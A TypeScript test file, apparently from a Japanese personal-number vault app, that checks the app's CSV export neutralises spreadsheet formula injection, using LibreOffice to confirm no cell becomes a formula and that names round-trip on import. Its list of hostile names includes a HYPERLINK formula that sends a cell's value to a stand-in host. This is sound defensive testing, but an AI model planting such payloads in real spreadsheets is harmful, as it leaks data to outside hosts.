import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, expect, it } from 'vitest';
import { fixedClock } from '../../src/domain/ports.js';
import { Secret } from '../../src/domain/secret.js';
import { approveWithPin, downloadExport, requestExport, RevealStore } from '../../src/services/gate.js';
import { importPersons } from '../../src/services/import/import-persons.js';
import { syntheticNumber } from '../helpers/numbers.js';
import { newTestVault, tempDir } from '../helpers/vault.js';
import { addStaff, HANDLER } from '../helpers/web.js';
import { ALL_PURPOSES } from '../helpers/purposes.js';

/** Names a hostile file or form could carry; each starts with a character a spreadsheet evaluates. */
const HOSTILE = [
  '=HYPERLINK("http://x.invalid/?"&F2;"開く")',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '=1+1',
];
const windows = { approvalMs: 5 * 60_000, viewMs: 60_000 };

function csvCell(v: string): string {
  return `"${v.replace(/"/gu, '""')}"`;
}

async function exportWithHostileNames(): Promise<{ bytes: Buffer; numbers: string[] }> {
  const { vault } = await newTestVault(fixedClock('2026-04-01T00:00:00Z'));
  await addStaff(vault);
  const numbers = HOSTILE.map((_, i) => syntheticNumber(31, i));
  const rows = HOSTILE.map((name, i) => `従業員,E${i + 1},${csvCell(name)},${numbers[i]}`);
  const r = importPersons(vault, Buffer.from(`種別,社員番号,氏名,個人番号\n${rows.join('\n')}\n`), { purposes: ALL_PURPOSES, actor: { id: 't', name: 't' } });
  expect(r.errors).toEqual([]);
  const handler = vault.users.byLogin(HANDLER.login)!;
  const store = new RevealStore();
  const req = requestExport(vault, store.requests, handler, { set: 'employees', purpose: 'withholding_slip', encoding: 'utf8_bom' }, null, windows);
  await approveWithPin(vault, store, { code: req.code, pin: new Secret(HANDLER.pin), device: 'pinpad:sim' }, windows);
  const file = downloadExport(vault, store, handler, req.id, null);
  vault.close();
  return { bytes: file.bytes, numbers };
}

describe('CSV export: formula injection (OWASP CSV injection)', () => {
  it('opens in LibreOffice Calc with no formula in any cell, and the names shown as written', async () => {
    const { bytes } = await exportWithHostileNames();
    const dir = tempDir('mnvault-csv-');
    try {
      const csv = path.join(dir, 'export.csv');
      fs.writeFileSync(csv, bytes, { mode: 0o600 });
      // One soffice run: CSV (comma, double quote, UTF-8) to flat ODS, whose XML names every formula cell.
      execFileSync('soffice', [
        `-env:UserInstallation=file://${path.join(dir, 'profile')}`,
        '--headless', '--norestore',
        '--infilter=CSV:44,34,76,1',
        '--convert-to', 'fods', '--outdir', dir, csv,
      ], { stdio: 'ignore', timeout: 120_000 });
      const xml = fs.readFileSync(path.join(dir, 'export.fods'), 'utf8');
      expect(xml).not.toMatch(/table:formula=/u);
      // Every hostile name is there as text (LibreOffice shows the guard quote as part of the text).
      const texts = [...xml.matchAll(/<text:p>([^<]*)<\/text:p>/gu)].map((m) => m[1]!.replace(/&quot;/gu, '"').replace(/&amp;/gu, '&').replace(/&apos;/gu, "'"));
      for (const name of HOSTILE) expect(texts.some((t) => t.endsWith(name))).toBe(true);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);

  it('reads back into a vault unchanged: the import takes off the guard the export added', async () => {
    const { bytes, numbers } = await exportWithHostileNames();
    const text = bytes.toString('utf8');
    for (const name of HOSTILE) expect(text).toContain(`'${name.replace(/"/gu, '""')}`);
    const { vault } = await newTestVault(fixedClock('2026-04-01T00:00:00Z'));
    const r = importPersons(vault, bytes, { purposes: ALL_PURPOSES, actor: { id: 't', name: 't' } });
    expect(r.errors).toEqual([]);
    const codes = vault.persons.codes('employee');
    HOSTILE.forEach((name, i) => expect(vault.persons.byId(codes.get(`E${i + 1}`)!)!.name).toBe(name));
    expect(numbers.length).toBe(HOSTILE.length);
    vault.close();
  });
});
